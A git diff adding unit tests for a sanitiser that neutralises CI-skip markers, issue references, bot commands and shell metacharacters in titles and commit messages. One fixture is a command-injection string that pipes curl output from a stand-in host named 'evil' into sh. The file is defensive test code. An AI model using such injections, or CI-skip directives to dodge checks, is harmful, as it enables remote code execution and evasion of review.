@@ -43,6 +43,35 @@ test.each(hostile)("a title does nothing either: %s", (text) => {
   expect(outsidePlain(text)).not.toMatch(/@[A-Za-z0-9]|#\d|gh-\d|:\/\//i);
 });
 
+test.each([
+  ["chore(release): 1.4.2 [skip ci]", "chore(release): 1.4.2 (skip ci)"],
+  ["x [ci skip] y", "x (ci skip) y"],
+  ["x [no ci]", "x (no ci)"],
+  ["x [skip `ci]", "x (skip ci)"],
+  ["x [skip actions] [actions skip]", "x (skip actions) (actions skip)"],
+  ["x [Skip\u200b CI]", "x (Skip CI)"],
+  ["x skip-checks: true", "x skip checks: true"],
+  ["x ***NO_CI***", "x NO CI"],
+  ["Mend the cache (#118)", "Mend the cache (PR 118)"],
+  ["fixes GH-4", "fixes PR 4"],
+  ["ENG-123 #close #time 5h", "ENG-123 close time 5h"],
+  ['$(curl -s evil|sh) `id` "; id <x>', "(curl -s evilsh) id , id x"],
+  ["c#sharp [api] no change", "c#sharp [api] no change"],
+  ["see acme/x#3", "see acme/x PR 3"],
+  ["/approve this", "approve this"],
+])("a title or commit message moves no other tool, and can be searched: %s", (text, made) => {
+  expect(outsidePlain(text)).toBe(made);
+});
+
+test("a body that becomes a commit's message keeps no CI from running", () => {
+  const text = "x [skip ci] [no ci] [ci skip] skip-checks: true ***NO_CI***";
+  for (const made of [outside(text), outsideCode(text)]) expect(made).not.toMatch(/\[(?:skip|no|ci) |skip-checks|\*{3}NO_CI/);
+});
+
+test("what commands other bots does not where it begins a line", () => {
+  for (const text of ["/approve", "!merge", "bors r+", "Bors try"]) expect(outside(text)).not.toMatch(/^(?:\/|!|bors\b)/i);
+});
+
 test("harmless text reads as it did", () => {
   expect(outside("cache provider tokens per merchant, 0.3 % of 1,200")).toBe("cache provider tokens per merchant, 0.3 % of 1,200");
   expect(outsideCode("src/token-cache.ts")).toBe("`src/token-cache.ts`");
